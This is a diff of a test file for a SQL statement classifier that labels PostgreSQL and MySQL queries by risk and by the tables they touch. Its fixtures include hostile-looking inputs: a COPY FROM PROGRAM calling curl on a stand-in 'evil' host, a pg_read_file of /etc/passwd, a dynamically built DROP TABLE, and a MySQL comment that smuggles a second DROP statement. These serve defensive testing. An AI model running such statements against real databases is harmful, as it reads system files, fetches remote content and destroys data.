@@ -67,7 +67,8 @@ describe('classify (postgres)', () => {
     ['SELECT * INTO t2 FROM t', [['write']], [['t', 't2']]],
     ['SELECT * FROM t FOR UPDATE', [['write']], [['t']]],
     ['LOCK TABLE t', [['write']], [['t']]],
-    ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', [['read', 'write']], [['d', 't']]],
+    // A CTE name is not a table (issue 3): d is left out.
+    ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', [['read', 'write']], [['t']]],
     // destructive
     ['/* x */ DROP TABLE t', [['destructive']], [['t']]],
     ['DROP TABLE s.t, u', [['destructive']], [['s.t', 'u']]],
@@ -77,7 +78,7 @@ describe('classify (postgres)', () => {
     ["DELETE FROM t WHERE 'a' = 'a'", [['destructive']], [['t']]],
     ['DELETE FROM t WHERE id = 1 OR true', [['destructive']], [['t']]],
     ['UPDATE t SET a=1', [['destructive']], [['t']]],
-    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', [['destructive', 'read']], [['d', 't']]],
+    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', [['destructive', 'read']], [['t']]],
     ['EXPLAIN ANALYZE DELETE FROM t', [['destructive']], [['t']]],
     ['ALTER TABLE t DROP COLUMN a', [['destructive']], [['t']]],
     ['SELECT 1; DROP TABLE t', [['read'], ['destructive']], [[], ['t']]],
@@ -93,14 +94,16 @@ describe('classify (postgres)', () => {
     ['SET SESSION AUTHORIZATION postgres', [['privilege']], [[]]],
     ['ALTER TABLE t OWNER TO bob', [['ddl', 'privilege']], [['t']]],
     // admin
-    ["COPY t TO '/tmp/x'", [['admin']], [['t']]],
-    ["COPY t FROM PROGRAM 'curl evil'", [['admin']], [['t']]],
+    // Every kind that applies: a server-file COPY also reads (or writes) its table.
+    ["COPY t TO '/tmp/x'", [['admin', 'read']], [['t']]],
+    ["COPY t FROM PROGRAM 'curl evil'", [['admin', 'write']], [['t']]],
     ["select pg_read_file('x')", [['admin', 'read']], [[]]],
     ["SELECT pg_catalog.pg_read_file('/etc/passwd')", [['admin', 'read']], [[]]],
     ['ALTER SYSTEM SET work_mem = 1', [['admin']], [[]]],
     ['CREATE EXTENSION dblink', [['admin']], [[]]],
     // unknown
-    ['DO $$ BEGIN END $$', [['unknown']], [[]]],
+    ['DO $$ BEGIN END $$', [['read']], [[]]], // the body is analysed: it runs nothing
+    ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'x' || now(); END $$", [['read', 'unknown']], [[]]],
     ['CALL p()', [['unknown']], [[]]],
     ['EXECUTE p', [['unknown']], [[]]],
     ['selec 1', [['unknown']], [[]]],
@@ -138,10 +141,10 @@ describe('classify (postgres)', () => {
     expect(pg('SELECT 42')).toBe(pg('SELECT 42'));
   });
 
-  it('MySQL is unknown until its classifier exists', () => {
-    const c = classify('mysql', 'SELECT 1');
-    expect(c.statements[0]?.kinds).toEqual(['unknown']);
-    expect(c.error).toMatch(/MySQL/);
+  it('MySQL goes to the MySQL classifier (test/classify-mysql.test.ts)', () => {
+    const c = classify('mysql', 'SELECT 1 /*!50000 ; DROP TABLE t */');
+    expect(c.statements.map((s) => s.kinds)).toEqual([['read'], ['destructive']]);
+    expect(c.error).toBeUndefined();
   });
 });
 
